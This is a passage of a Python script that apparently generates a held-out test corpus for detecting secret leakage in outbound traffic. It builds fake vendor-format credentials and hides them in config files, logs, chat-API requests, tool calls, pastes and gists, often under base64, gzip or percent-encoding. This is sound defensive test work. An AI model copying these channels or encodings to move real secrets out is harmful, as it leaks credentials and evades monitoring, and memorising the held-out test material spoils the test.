#!/usr/bin/env python3
"""split10: held-out egress secret-detection test corpus (generator + checker).

Usage:  nice python3 generate.py          # regenerate files, then run the checker
        nice python3 generate.py --check  # only run the checker
Python 3 standard library only.  Fully deterministic (single random.Random(SEED)).
"""
import base64, gzip, hashlib, hmac, html, json, math, os, quopri, random, re, string, struct, sys, zlib
from urllib.parse import quote, quote_plus, unquote, unquote_plus, urlsplit

SEED = 6221072
HERE = os.path.dirname(os.path.abspath(__file__))
POS_PATH = os.path.join(HERE, 'positives.jsonl')
NEG_PATH = os.path.join(HERE, 'negatives.jsonl')
README_PATH = os.path.join(HERE, 'README.md')
ARMOUR = '-' * 5 + 'BEGIN'

UPC = string.ascii_uppercase
LOW = string.ascii_lowercase
DIG = string.digits
ALPHA = UPC + LOW
ALNUM = ALPHA + DIG
B64C = ALNUM + '+/'
B64U = ALNUM + '-_'
HEXC = '0123456789abcdef'
R = None


# ----------------------------------------------------------------- primitives
def rs(a, n):
    return ''.join(R.choice(a) for _ in range(n))


def ch(s):
    return R.choice(s)


def ri(a, b):
    return R.randint(a, b)


def rbytes(n):
    return bytes(R.getrandbits(8) for _ in range(n))


def _b(x):
    return x if isinstance(x, bytes) else x.encode()


def b64e(x):
    return base64.b64encode(_b(x)).decode()


def b64ue(x, pad=False):
    s = base64.urlsafe_b64encode(_b(x)).decode()
    return s if pad else s.rstrip('=')


def gz(b):
    return gzip.compress(_b(b), compresslevel=9, mtime=0)


def uuid4():
    h = rs(HEXC, 32)
    h = h[:12] + '4' + h[13:16] + ch('89ab') + h[17:]
    return '%s-%s-%s-%s-%s' % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])


def pct_all(s):
    return ''.join('%%%02X' % c for c in s.encode())


def pct_all2(s):
    return ''.join('%%25%02X' % c for c in s.encode())


def entropy(s):
    if not s:
        return 0.0
    c = {}
    for x in s:
        c[x] = c.get(x, 0) + 1
    n = len(s)
    return -sum(v / n * math.log2(v / n) for v in c.values())


WORDS = ('alpha orders billing search users ledger report invoice sync metrics deploy staging cache worker '
         'queue notify export import archive catalog payments inventory gateway profile media analytics').split()
ORGS = ['acme-corp', 'northwind', 'contoso', 'globex', 'initech', 'umbrella-labs', 'hooli', 'vandelay', 'stark-ind', 'wayne-ent']
TLDS = ['com', 'io', 'dev', 'net', 'co', 'app']
PEOPLE = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'oscar']
LEVELS = ['info', 'debug', 'warn', 'error']


def org():
    return ch(ORGS)


def repo():
    return ch(WORDS) + ch(['', '-api', '-web', '-service', '-infra', '-cli'])


def host():
    return '%s.%s.%s' % (ch(['api', 'svc', 'app', 'internal', 'data', 'edge', 'gw']), ch(ORGS), ch(TLDS))


def email():
    return '%s.%s@%s.%s' % (ch(PEOPLE), ch(PEOPLE), ch(ORGS), ch(TLDS))


def iso_ts():
    return '2024-%02d-%02dT%02d:%02d:%02d.%03dZ' % (ri(1, 12), ri(1, 28), ri(0, 23), ri(0, 59), ri(0, 59), ri(0, 999))


def fillers(k):
    pool = [('LOG_LEVEL', lambda: ch(LEVELS)), ('PORT', lambda: str(ch([3000, 8000, 8080, 5000, 9090]))),
            ('NODE_ENV', lambda: ch(['production', 'staging', 'development'])),
            ('AWS_REGION', lambda: ch(['eu-west-1', 'us-east-1', 'us-west-2', 'ap-southeast-2'])),
            ('APP_NAME', lambda: '%s-%s' % (ch(WORDS), ch(WORDS))), ('REQUEST_TIMEOUT_MS', lambda: str(ri(1000, 30000))),
            ('MAX_RETRIES', lambda: str(ri(2, 9))), ('CACHE_TTL', lambda: str(ch([60, 300, 900, 3600]))),
            ('DB_HOST', lambda: ch(['db.internal', 'localhost', 'postgres', '10.0.3.12'])), ('WORKERS', lambda: str(ri(1, 16))),
            ('SENTRY_ENVIRONMENT', lambda: ch(['prod', 'staging'])), ('FEATURE_NEW_CHECKOUT', lambda: ch(['true', 'false']))]
    return [(n, f()) for n, f in R.sample(pool, k)]


def lower(n):
    return n.lower()


def camel(n):
    p = n.lower().split('_')
    return p[0] + ''.join(x.title() for x in p[1:])


def dotted(n):
    return n.lower().replace('_', '.')


def kebab(n):
    return n.lower().replace('_', '-')


# ----------------------------------------------------------------- checksums
def luhn_ok(d):
    t = 0
    for i, c in enumerate(reversed(d)):
        n = ord(c) - 48
        if i % 2 == 1:
            n *= 2
            if n > 9:
                n -= 9
        t += n
    return t % 10 == 0


def luhn_make(prefix, length):
    body = prefix + rs(DIG, length - len(prefix) - 1)
    for c in DIG:
        if luhn_ok(body + c):
            return body + c


IBAN_SPEC = {'DE': [('n', 18)], 'GB': [('a', 4), ('n', 14)], 'FR': [('n', 10), ('c', 11), ('n', 2)], 'ES': [('n', 20)],
             'IT': [('a', 1), ('n', 10), ('c', 12)], 'NL': [('a', 4), ('n', 10)], 'BE': [('n', 12)], 'AT': [('n', 16)],
             'CH': [('n', 5), ('c', 12)], 'PL': [('n', 24)], 'SE': [('n', 20)], 'NO': [('n', 11)], 'IE': [('a', 4), ('n', 14)],
             'PT': [('n', 21)], 'DK': [('n', 14)], 'FI': [('n', 14)]}
IBAN_LEN = {k: 4 + sum(n for _, n in v) for k, v in IBAN_SPEC.items()}


def iban_num(s):
    return int(''.join(str(int(c, 36)) for c in s))


def iban_ok(s):
    s = s.replace(' ', '')
    return (re.fullmatch(r'[A-Z]{2}\d{2}[A-Z0-9]{11,30}', s) is not None and IBAN_LEN.get(s[:2]) == len(s)
            and iban_num(s[4:] + s[:4]) % 97 == 1)


def iban_make(cc):
    bban = ''.join(rs({'n': DIG, 'a': UPC, 'c': UPC + DIG}[k], n) for k, n in IBAN_SPEC[cc])
    chk = 98 - iban_num(bban + cc + '00') % 97
    return '%s%02d%s' % (cc, chk, bban)


B58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'


def b58enc(b):
    n = int.from_bytes(b, 'big')
    out = ''
    while n > 0:
        n, r = divmod(n, 58)
        out = B58[r] + out
    return '1' * (len(b) - len(b.lstrip(b'\0'))) + out


def b58dec(s):
    n = 0
    for c in s:
        n = n * 58 + B58.index(c)
    full = n.to_bytes((n.bit_length() + 7) // 8, 'big') if n else b''
    return b'\0' * (len(s) - len(s.lstrip('1'))) + full


def dsha(b):
    return hashlib.sha256(hashlib.sha256(b).digest()).digest()


def b58check_ok(s):
    try:
        raw = b58dec(s)
    except ValueError:
        return False
    return len(raw) == 25 and raw[0] in (0, 5) and dsha(raw[:-4])[:4] == raw[-4:]


BECH = 'qpzry9x8gf2tvdw0s3jn54khce6mua7l'
BECH32M_CONST = 0x2bc830a3


def bech_polymod(values):
    gen = [0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3]
    chk = 1
    for v in values:
        b = chk >> 25
        chk = ((chk & 0x1ffffff) << 5) ^ v
        for i in range(5):
            chk ^= gen[i] if ((b >> i) & 1) else 0
    return chk


def bech_hrp(h):
    return [ord(x) >> 5 for x in h] + [0] + [ord(x) & 31 for x in h]


def convertbits(data, f, t):
    acc = bits = 0
    out = []
    for v in data:
        acc = (acc << f) | v
        bits += f
        while bits >= t:
            bits -= t
            out.append((acc >> bits) & ((1 << t) - 1))
    if bits:
        out.append((acc << (t - bits)) & ((1 << t) - 1))
    return out


def segwit_encode(hrp, ver, prog):
    data = [ver] + convertbits(prog, 8, 5)
    const = 1 if ver == 0 else BECH32M_CONST
    pm = bech_polymod(bech_hrp(hrp) + data + [0] * 6) ^ const
    return hrp + '1' + ''.join(BECH[d] for d in data + [(pm >> 5 * (5 - i)) & 31 for i in range(6)])


def segwit_ok(addr):
    a = addr.lower()
    if a != addr and addr.upper() != addr:
        return False
    pos = a.rfind('1')
    hrp, dp = a[:pos], a[pos + 1:]
    if hrp not in ('bc', 'tb') or len(dp) < 7 or any(c not in BECH for c in dp):
        return False
    data = [BECH.index(c) for c in dp]
    pm = bech_polymod(bech_hrp(hrp) + data)
    ver = data[0]
    if ver == 0 and pm != 1:
        return False
    if ver > 0 and pm != BECH32M_CONST:
        return False
    return True


# Keccak-256 (original Keccak padding, as used by Ethereum), implemented from the specification.
def _rc_bit(t):
    if t % 255 == 0:
        return 1
    r = 1
    for _ in range(t % 255):
        r <<= 1
        if r & 0x100:
            r ^= 0x171
    return r & 1


K_RC = [sum(_rc_bit(j + 7 * i) << ((1 << j) - 1) for j in range(7)) for i in range(24)]
K_ROT = [[0] * 5 for _ in range(5)]
_x, _y = 1, 0
for _t in range(24):
    K_ROT[_x][_y] = ((_t + 1) * (_t + 2) // 2) % 64
    _x, _y = _y, (2 * _x + 3 * _y) % 5
M64 = (1 << 64) - 1


def _rol(v, n):
    n %= 64
    return ((v << n) | (v >> (64 - n))) & M64 if n else v


def _keccak_f(A):
    for rnd in range(24):
        C = [A[x] ^ A[x + 5] ^ A[x + 10] ^ A[x + 15] ^ A[x + 20] for x in range(5)]
        D = [C[(x - 1) % 5] ^ _rol(C[(x + 1) % 5], 1) for x in range(5)]
        A = [A[i] ^ D[i % 5] for i in range(25)]
        B = [0] * 25
        for x in range(5):
            for y in range(5):
                B[y + 5 * ((2 * x + 3 * y) % 5)] = _rol(A[x + 5 * y], K_ROT[x][y])
        A = [B[x + 5 * y] ^ ((~B[(x + 1) % 5 + 5 * y]) & B[(x + 2) % 5 + 5 * y]) for y in range(5) for x in range(5)]
        A[0] ^= K_RC[rnd]
    return A


def keccak256(data):
    rate = 136
    p = bytearray(data) + b'\x01'
    while len(p) % rate:
        p += b'\x00'
    p[-1] |= 0x80
    A = [0] * 25
    for off in range(0, len(p), rate):
        blk = p[off:off + rate]
        for i in range(rate // 8):
            A[i] ^= int.from_bytes(blk[8 * i:8 * i + 8], 'little')
        A = _keccak_f(A)
    return b''.join(A[i].to_bytes(8, 'little') for i in range(4))


def eip55(h40):
    h40 = h40.lower()
    d = keccak256(h40.encode()).hex()
    return '0x' + ''.join(c.upper() if c in 'abcdef' and int(d[i], 16) >= 8 else c for i, c in enumerate(h40))


def eth_ok(a):
    if not re.fullmatch(r'0x[0-9a-fA-F]{40}', a):
        return False
    body = a[2:]
    if body == body.lower() or body == body.upper():
        return True
    return eip55(body) == a


def isbn13_make():
    b = ch(['978', '979']) + rs(DIG, 9)
    s = sum(int(c) * (1 if i % 2 == 0 else 3) for i, c in enumerate(b))
    return b + str((10 - s % 10) % 10)


def png_bytes(w, h):
    base = (ri(0, 255), ri(0, 255), ri(0, 255))
    raw = b''
    for y in range(h):
        row = b'\x00'
        for x in range(w):
            row += bytes(((base[0] + x * 9) % 256, (base[1] + y * 7) % 256, (base[2] + x * y) % 256))
        raw += row

    def chunk(t, d):
        return struct.pack('>I', len(d)) + t + d + struct.pack('>I', zlib.crc32(t + d) & 0xffffffff)
    return (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 2, 0, 0, 0)) +
            chunk(b'IDAT', zlib.compress(raw, 9)) + chunk(b'IEND', b''))


# ----------------------------------------------------------------- snippet formats: (name, value) -> (fname, ctype, text, layers)
def S_env(n, v):
    kv = fillers(ri(2, 5))
    kv.insert(ri(0, len(kv)), (n, ch([v, '"%s"' % v, "'%s'" % v])))
    head = ch(['', '# generated by setup.sh\n', '# %s service\n' % ch(WORDS)])
    return ch(['.env', '.env.production', 'config/.env.local']), 'text/plain', head + '\n'.join('%s=%s' % kv_ for kv_ in kv) + '\n', []


def S_yaml(n, v):
    sect = ch(['app', 'service', 'integrations', 'auth', 'clients', 'upstream'])
    lines = ['%s:' % sect, '  name: %s-%s' % (ch(WORDS), ch(WORDS)), '  %s: %s' % (lower(n), ch([v, '"%s"' % v])),
             '  timeout: %ds' % ri(5, 60), 'logging:', '  level: %s' % ch(LEVELS)]
    return ch(['config.yaml', 'settings.yml', 'values.yaml']), 'application/yaml', '\n'.join(lines) + '\n', []


def S_toml(n, v):
    t = '[%s]\nendpoint = "https://%s"\n%s = "%s"\nretries = %d\n\n[log]\nlevel = "%s"\n' % (
        ch(WORDS), host(), lower(n), v, ri(1, 5), ch(LEVELS))
    return ch(['config.toml', 'settings.toml', 'app.toml']), 'application/toml', t, []


def S_json(n, v):
    d = {'service': '%s-%s' % (ch(WORDS), ch(WORDS)), 'endpoint': 'https://' + host(), camel(n): v,
         'region': ch(['eu-west-1', 'us-east-1']), 'retries': ri(1, 5)}
    return ch(['config.json', 'appsettings.json', 'credentials.json']), 'application/json', json.dumps(d, indent=ch([2, 4])), []


def S_ini(n, v):
    t = '[%s]\nregion = %s\n%s = %s\noutput = json\n' % (ch(['default', 'prod', 'service']), ch(['eu-west-1', 'us-east-2']), lower(n), v)
    return ch(['settings.ini', 'app.cfg', 'setup.cfg']), 'text/plain', t, []


def S_xml(n, v):
    t = ('<?xml version="1.0" encoding="utf-8"?>\n<configuration>\n  <appSettings>\n    <add key="Environment" value="%s" />\n'
         '    <add key="%s" value="%s" />\n  </appSettings>\n</configuration>\n') % (ch(['Production', 'Staging']), camel(n)[0].upper() + camel(n)[1:], v)
    return ch(['web.config', 'App.config', 'settings.xml']), 'application/xml', t, []


def S_props(n, v):
    t = 'spring.application.name=%s\nserver.port=%d\n%s=%s\nlogging.level.root=%s\n' % (ch(WORDS), ch([8080, 8443]), dotted(n), v, ch(LEVELS).upper())
    return ch(['application.properties', 'gradle.properties']), 'text/plain', t, []


def S_shell(n, v):
    t = '#!/usr/bin/env bash\nset -euo pipefail\nexport %s="%s"\ncurl -fsS "https://%s/v1/%s" -H "X-Client: %s" -d @payload.json\n' % (
        n, v, host(), ch(WORDS), ch(WORDS))
    return ch(['deploy.sh', 'bootstrap.sh', 'scripts/sync.sh']), 'text/x-shellscript', t, []


def S_docker(n, v):
    t = 'FROM %s\nWORKDIR /srv\nENV %s=%s\nCOPY . .\nRUN %s\nCMD ["%s"]\n' % (
        ch(['node:20-alpine', 'python:3.12-slim', 'golang:1.22']), n, v, ch(['npm ci', 'pip install -r requirements.txt', 'go build ./...']),
        ch(['./server', 'npm start', 'python app.py']))
    return 'Dockerfile', 'text/plain', t, []


def S_k8s(n, v):
    if R.random() < 0.5:
        t = 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: %s-secrets\n  namespace: %s\ntype: Opaque\nstringData:\n  %s: "%s"\n' % (
            ch(WORDS), ch(['default', 'prod', 'payments']), kebab(n), v)
        return 'secret.yaml', 'application/yaml', t, []
    t = 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: %s-secrets\ntype: Opaque\ndata:\n  %s: %s\n' % (ch(WORDS), kebab(n), b64e(v))
    return 'secret.yaml', 'application/yaml', t, ['b64tok']


def S_tf(n, v):
    t = 'provider "%s" {\n  region = "%s"\n  %s = "%s"\n}\n\nresource "%s_bucket" "logs" {\n  name = "%s-logs"\n}\n' % (
        ch(['acme', 'cloud', 'vendor']), ch(['eu-west-1', 'us-east-1']), lower(n), v, ch(['acme', 'cloud']), ch(WORDS))
    return ch(['main.tf', 'providers.tf', 'terraform.tfvars']), 'text/plain', t, []


def S_gha(n, v):
    t = ('name: deploy\non:\n  push:\n    branches: [main]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    env:\n      %s: %s\n'
         '    steps:\n      - uses: actions/checkout@v4\n      - run: make release\n') % (n, v)
    return '.github/workflows/deploy.yml', 'application/yaml', t, []


def S_compose(n, v):
    t = 'services:\n  %s:\n    image: %s\n    environment:\n      - %s=%s\n      - LOG_LEVEL=%s\n    ports:\n      - "%d:%d"\n' % (
        ch(WORDS), ch(['redis:7', 'postgres:16', 'ghcr.io/acme/api:1.4.2']), n, v, ch(LEVELS), 8080, 8080)
    return 'docker-compose.yml', 'application/yaml', t, []


def S_diff(n, v):
    f = ch(['config/.env', 'src/settings.py', 'deploy/values.yaml'])
    t = ('diff --git a/%s b/%s\nindex %s..%s 100644\n--- a/%s\n+++ b/%s\n@@ -1,3 +1,4 @@\n LOG_LEVEL=info\n+%s=%s\n PORT=8080\n') % (
        f, f, rs(HEXC, 7), rs(HEXC, 7), f, f, n, v)
    return 'patch.diff', 'text/x-diff', t, []


def S_log(n, v):
    t = '%s INFO  [%s] boot: loaded config %s=%s region=%s\n%s DEBUG [%s] http: GET /healthz 200 %dms\n' % (
        iso_ts(), ch(WORDS), lower(n), v, ch(['eu-west-1', 'us-east-1']), iso_ts(), ch(WORDS), ri(1, 90))
    return ch(['app.log', 'worker.log']), 'text/plain', t, []


def S_trace(n, v):
    t = ('Traceback (most recent call last):\n  File "/app/%s/client.py", line %d, in connect\n    resp = session.post(url, json=body)\n'
         '  File "/usr/lib/python3.11/site-packages/requests/models.py", line 1021, in raise_for_status\n'
         'requests.exceptions.HTTPError: 401 Client Error: Unauthorized for url: https://%s/v2/%s\n'
         'Local variables in connect(): url=\'https://%s/v2/%s\', %s=\'%s\', retries=%d\n') % (
        ch(WORDS), ri(20, 300), host(), ch(WORDS), host(), ch(WORDS), lower(n), v, ri(0, 3))
    return 'traceback.txt', 'text/plain', t, []


def S_sql(n, v):
    t = "INSERT INTO integration_settings (tenant_id, provider, %s, created_at) VALUES (%d, '%s', '%s', now());\n" % (
        lower(n), ri(1, 9999), ch(WORDS), v)
    return 'seed.sql', 'application/sql', t, []


def S_csv(n, v):
    rows = ['service,key_name,value,owner']
    for _ in range(ri(1, 3)):
        rows.append('%s,%s,%s,%s' % (ch(WORDS), ch(['REGION', 'TIMEOUT', 'LOG_LEVEL']), ch(['eu-west-1', '30', 'info']), ch(PEOPLE)))
    rows.insert(ri(1, len(rows)), '%s,%s,%s,%s' % (ch(WORDS), n, v, ch(PEOPLE)))
    return 'keys.csv', 'text/csv', '\n'.join(rows) + '\n', []


def S_nb(n, v):
    nb = {'cells': [{'cell_type': 'code', 'execution_count': ri(1, 30), 'metadata': {}, 'outputs': [],
                     'source': ['import os\n', 'os.environ["%s"] = "%s"\n' % (n, v), 'client = Client()\n']}],
          'metadata': {'kernelspec': {'name': 'python3', 'display_name': 'Python 3'}}, 'nbformat': 4, 'nbformat_minor': 5}
    return 'analysis.ipynb', 'application/x-ipynb+json', json.dumps(nb, indent=1), []


def S_py(n, v):
    t = 'import requests\n\n%s = "%s"\n\ndef fetch(path):\n    return requests.get("https://%s" + path, timeout=10)\n' % (n, v, host())
    return ch(['settings.py', 'client.py']), 'text/x-python', t, []


def S_js(n, v):
    t = "export const config = {\n  baseUrl: 'https://%s',\n  %s: '%s',\n  timeoutMs: %d,\n};\n" % (host(), camel(n), v, ri(1000, 9000))
    return ch(['config.js', 'src/config.ts']), 'text/javascript', t, []


def S_prose(n, v):
    lab = n.lower().replace('_', ' ')
    t = ch(['Here is the %s you asked for: %s\n', 'I rotated it, the new %s is %s - please update CI.\n',
            'Use %s=%s when you call the API from the notebook.\n', 'quick note: %s -> %s (expires end of month)\n']) % (lab, v)
    return 'notes.md', 'text/plain', t, []


SNIPPETS = [S_env, S_yaml, S_toml, S_json, S_ini, S_xml, S_props, S_shell, S_docker, S_k8s, S_tf, S_gha, S_compose, S_diff,
            S_log, S_trace, S_sql, S_csv, S_nb, S_py, S_js]

OAI_MODELS = ['gpt-4o', 'gpt-4.1-mini', 'o4-mini', 'gpt-4o-mini']
ANT_MODELS = ['claude-sonnet-4-20250514', 'claude-3-5-haiku-20241022', 'claude-opus-4-1-20250805']
ASKS = ['Why does this config fail to load?', 'Can you convert this to YAML?', 'Please review this file before I commit it.',
        'The deploy keeps failing with 401, what is wrong here?', 'Refactor this so it reads from the environment.',
        'Summarise what this file does.']


# ----------------------------------------------------------------- carriers: (fname, ctype, snippet) -> (ctype, text, layers)
def carrier(fname, ctype, snip):
    k = ch(['raw', 'raw', 'oai', 'ant', 'mcp_write', 'mcp_exec', 'gist', 'paste', 'issue', 'slack', 'multipart', 'gql', 'oai_tool'])
    if k == 'raw':
        return ctype, snip, []
    if k == 'oai':
        d = {'model': ch(OAI_MODELS), 'messages': [{'role': 'system', 'content': 'You are a helpful coding assistant.'},
                                                  {'role': 'user', 'content': '%s\n\n```\n%s\n```' % (ch(ASKS), snip)}],
             'temperature': ch([0, 0.2, 0.7])}
        return 'application/json', json.dumps(d), []
    if k == 'ant':
        d = {'model': ch(ANT_MODELS), 'max_tokens': ch([1024, 4096]),
             'messages': [{'role': 'user', 'content': [{'type': 'text', 'text': '%s\n\n<file name="%s">\n%s\n</file>' % (ch(ASKS), fname, snip)}]}]}
        return 'application/json', json.dumps(d), []
    if k == 'oai_tool':
        cid = 'call_' + rs(ALNUM, 24)
        d = {'model': ch(OAI_MODELS), 'messages': [
            {'role': 'user', 'content': 'Open %s and tell me what is configured.' % fname},
            {'role': 'assistant', 'content': None, 'tool_calls': [{'id': cid, 'type': 'function', 'function': {'name': 'read_file', 'arguments': json.dumps({'path': fname})}}]},
            {'role': 'tool', 'tool_call_id': cid, 'content': snip}]}
        return 'application/json', json.dumps(d), []
    if k == 'mcp_write':
        d = {'jsonrpc': '2.0', 'id': ri(1, 999), 'method': 'tools/call',
             'params': {'name': ch(['write_file', 'fs_write', 'create_file']), 'arguments': {'path': fname, 'content': snip}}}
        return 'application/json', json.dumps(d), []
    if k == 'mcp_exec':
        d = {'jsonrpc': '2.0', 'id': ri(1, 999), 'method': 'tools/call',
             'params': {'name': ch(['run_command', 'bash', 'shell_exec']), 'arguments': {'command': "cat > %s <<'EOF'\n%s\nEOF" % (fname, snip)}}}
        return 'application/json', json.dumps(d), []
    if k == 'gist':
        d = {'description': '%s %s' % (ch(WORDS), ch(['config', 'backup', 'snippet'])), 'public': ch([True, False]),
             'files': {fname.split('/')[-1]: {'content': snip}}}
        return 'application/json', json.dumps(d), []
    if k == 'paste':
        t = 'title=%s&syntax=%s&expiry=%s&content=%s' % (quote_plus(fname), ch(['text', 'yaml', 'bash']), ch(['1d', '1w', 'never']), quote_plus(snip))
        return 'application/x-www-form-urlencoded', t, ['form']
    if k == 'issue':
        d = {'title': '%s fails after upgrade' % ch(WORDS), 'body': 'Steps to reproduce:\n\n```\n%s\n```\n\nAny idea?' % snip, 'labels': ['bug']}
        return 'application/json', json.dumps(d), []
    if k == 'slack':
        d = {'channel': 'C0' + rs(UPC + DIG, 9), 'text': 'here is the %s from prod:\n```%s```' % (fname, snip)}
        return 'application/json', json.dumps(d), []
    if k == 'multipart':
        bd = '----WebKitFormBoundary' + rs(ALNUM, 16)
        t = ('--%s\r\nContent-Disposition: form-data; name="purpose"\r\n\r\nassistants\r\n--%s\r\n'
             'Content-Disposition: form-data; name="file"; filename="%s"\r\nContent-Type: %s\r\n\r\n%s\r\n--%s--\r\n') % (
            bd, bd, fname.split('/')[-1], ctype, snip, bd)
        return 'multipart/form-data; boundary=' + bd, t, []
    d = {'query': 'mutation CreateSnippet($input: SnippetInput!) { createSnippet(input: $input) { id url } }',
         'variables': {'input': {'title': fname, 'visibility': 'PRIVATE', 'content': snip}}, 'operationName': 'CreateSnippet'}
    return 'application/json', json.dumps(d), []


# ----------------------------------------------------------------- outer encodings
def outer(ctype, text, layers, plain_weight=20):
    k = ch(['none'] * plain_weight + ['gzip', 'gzip', 'deflate', 'b64env', 'b64env', 'b64uenv', 'b64gz', 'hexenv', 'ujson', 'html', 'qp'])
    c = {'where': 'body', 'content_type': ctype, 'layers': list(layers)}
    if k == 'none':
        c['text'] = text
    elif k == 'gzip':
        c['bytes'] = gz(text)
        c['ce'] = 'gzip'
    elif k == 'deflate':
        c['bytes'] = zlib.compress(text.encode(), 9)
        c['ce'] = 'deflate'
    elif k in ('b64env', 'b64uenv'):
        enc = b64e(text) if k == 'b64env' else b64ue(text, pad=True)
        c['text'] = json.dumps({'filename': 'upload.%s' % ch(['txt', 'bin', 'dat']), 'encoding': 'base64', 'data': enc})
        c['content_type'] = 'application/json'
        c['layers'] = ['b64tok'] + layers
    elif k == 'b64gz':
        c['text'] = json.dumps({'type': ch(['backup', 'sync', 'telemetry']), 'compression': 'gzip', 'payload': b64e(gz(text))})
        c['content_type'] = 'application/json'
        c['layers'] = ['gunztok'] + layers
    elif k == 'hexenv':
        c['text'] = json.dumps({'kind': 'blob', 'hex': text.encode().hex()})
        c['content_type'] = 'application/json'
        c['layers'] = ['hextok'] + layers
    elif k == 'ujson':
        c['text'] = '{"type":"note","body":"' + ''.join('\\u%04x' % ord(x) for x in text) + '"}'
        c['content_type'] = 'application/json'
        c['layers'] = ['json'] + layers
    elif k == 'html':
        c['text'] = '<!doctype html><html><body><pre>' + ''.join(ch(['&#%d;', '&#x%x;']) % ord(x) for x in text) + '</pre></body></html>'
        c['content_type'] = 'text/html'
        c['layers'] = ['html'] + layers
    else:
        mime = ('From: %s\nTo: %s\nSubject: %s config\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n'
                'Content-Transfer-Encoding: quoted-printable\n\n') % (email(), email(), ch(WORDS))
        c['text'] = mime + quopri.encodestring(text.encode()).decode()
        c['content_type'] = 'message/rfc822'
        c['layers'] = ['qp'] + layers
    return c


def body_case(n, v, snippets=None, plain_weight=20, allow_prose=False):
    pool = list(snippets or SNIPPETS)
    if allow_prose:
        pool += [S_prose, S_prose]
    fname, ctype, snip, l1 = ch(pool)(n, v)
    ctype2, text, l2 = carrier(fname, ctype, snip)
    return outer(ctype2, text, l2 + l1, plain_weight)


def url_case(tmpl, v):
    mode = ch(['plain', 'plain', 'plain', 'pct', 'pct2'])
    if mode == 'plain':
        e = quote(v, safe='')
        layers = ['pct'] if e != v else []
    elif mode == 'pct':
        e, layers = pct_all(v), ['pct']
    else:
        e, layers = pct_all2(v), ['pct', 'pct']
    return {'where': 'url', 'text': tmpl(e), 'layers': layers}


def hdr_case(name, value, layers=()):
    return {'where': 'header', 'text': '%s: %s' % (name, value), 'layers': list(layers)}


def place(n, v, hdr=None, url=None, prose=True, snippets=None):
    opts = ['body'] * 7
    if hdr:
        opts += ['header'] * 2
    if url:
        opts += ['url'] * 2
    k = ch(opts)
    if k == 'header':
        name, val = ch(hdr)(v)
        return hdr_case(name, val)
    if k == 'url':
        return url_case(ch(url), v)
    return body_case(n, v, snippets, allow_prose=prose)


# ----------------------------------------------------------------- positive classes
def _hdr(name, fmt='%s'):
    return lambda v: (name, fmt % v)


def g_openai():
    k = ri(0, 2)
    if k == 0:
        return 'sk-proj-' + rs(B64U, 74) + 'T3BlbkFJ' + rs(B64U, 74)
    if k == 1:
        return 'sk-' + rs(ALNUM, 20) + 'T3BlbkFJ' + rs(ALNUM, 20)
    return 'sk-svcacct-' + rs(B64U, 70) + 'T3BlbkFJ' + rs(B64U, 70)


def g_slack():
    if R.random() < 0.6:
        return 'xoxb-%s-%s-%s' % (rs(DIG, ch([11, 12])), rs(DIG, 13), rs(ALNUM, 24))
    return 'xoxp-%s-%s-%s-%s' % (rs(DIG, 11), rs(DIG, 12), rs(DIG, 13), rs(HEXC, 32))


def g_discord_bot():
    return b64ue(str(ri(10 ** 17, 10 ** 18 * 2))) + '.' + rs(B64U, 6) + '.' + rs(B64U, 38)


def g_azure_key():
    return rs(B64C, 86) + '=='


AZURITE = 'Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw=='

VENDOR = [
    # cls, count, gen, names, hdr, url, prose
    ('aws-access-key-id', 7, lambda: ch(['AKIA', 'AKIA', 'ASIA']) + rs(UPC + '234567', 16), ['AWS_ACCESS_KEY_ID', 'ACCESS_KEY_ID'], None,
     [lambda e: 'https://sts.amazonaws.com/?Action=GetCallerIdentity&Version=2011-06-15&X-Amz-Credential=%s%%2F20240501%%2Fus-east-1%%2Fsts%%2Faws4_request' % e], True),
    ('aws-session-token', 4, lambda: ch(['IQoJb3JpZ2luX2VjE', 'FwoGZXIvYXdzE']) + rs(B64C, ri(300, 420)), ['AWS_SESSION_TOKEN', 'SESSION_TOKEN'],
     [_hdr('X-Amz-Security-Token')], None, False),
    ('github-pat', 7, lambda: 'ghp_' + rs(ALNUM, 36), ['GITHUB_TOKEN', 'GH_TOKEN', 'GITHUB_PAT'],
     [_hdr('Authorization', 'token %s'), _hdr('Authorization', 'Bearer %s')],
     [lambda e: 'https://%s@github.com/%s/%s.git/info/refs?service=git-upload-pack' % (e, org(), repo())], True),
    ('github-fine-grained-pat', 4, lambda: 'github_pat_' + rs(ALNUM, 22) + '_' + rs(ALNUM, 59), ['GITHUB_TOKEN', 'GH_PAT'],
     [_hdr('Authorization', 'Bearer %s')], None, True),
    ('github-app-token', 4, lambda: ch(['gho_', 'ghu_', 'ghs_', 'ghr_']) + rs(ALNUM, 36), ['GITHUB_APP_TOKEN', 'GH_INSTALLATION_TOKEN'],
     [_hdr('Authorization', 'token %s')], [lambda e: 'https://x-access-token:%s@github.com/%s/%s.git' % (e, org(), repo())], True),
    ('gitlab-pat', 5, lambda: 'glpat-' + rs(B64U, 20), ['GITLAB_TOKEN', 'CI_JOB_PAT'], [_hdr('PRIVATE-TOKEN')],
     [lambda e: 'https://gitlab.com/api/v4/projects?private_token=%s&per_page=100' % e], True),
    ('gitlab-runner-token', 3, lambda: 'glrt-' + rs(B64U, 20), ['RUNNER_TOKEN', 'CI_SERVER_TOKEN'], None, None, True),
    ('bitbucket-app-password', 3, lambda: 'ATBB' + rs(ALNUM, 32), ['BITBUCKET_APP_PASSWORD'], None, None, True),
    ('atlassian-api-token', 3, lambda: 'ATATT3xFfGF0' + rs(B64U, 170) + '=' + rs(HEXC.upper(), 8), ['JIRA_API_TOKEN', 'CONFLUENCE_TOKEN'], None, None, True),
    ('slack-token', 7, g_slack, ['SLACK_BOT_TOKEN', 'SLACK_TOKEN'], [_hdr('Authorization', 'Bearer %s')],
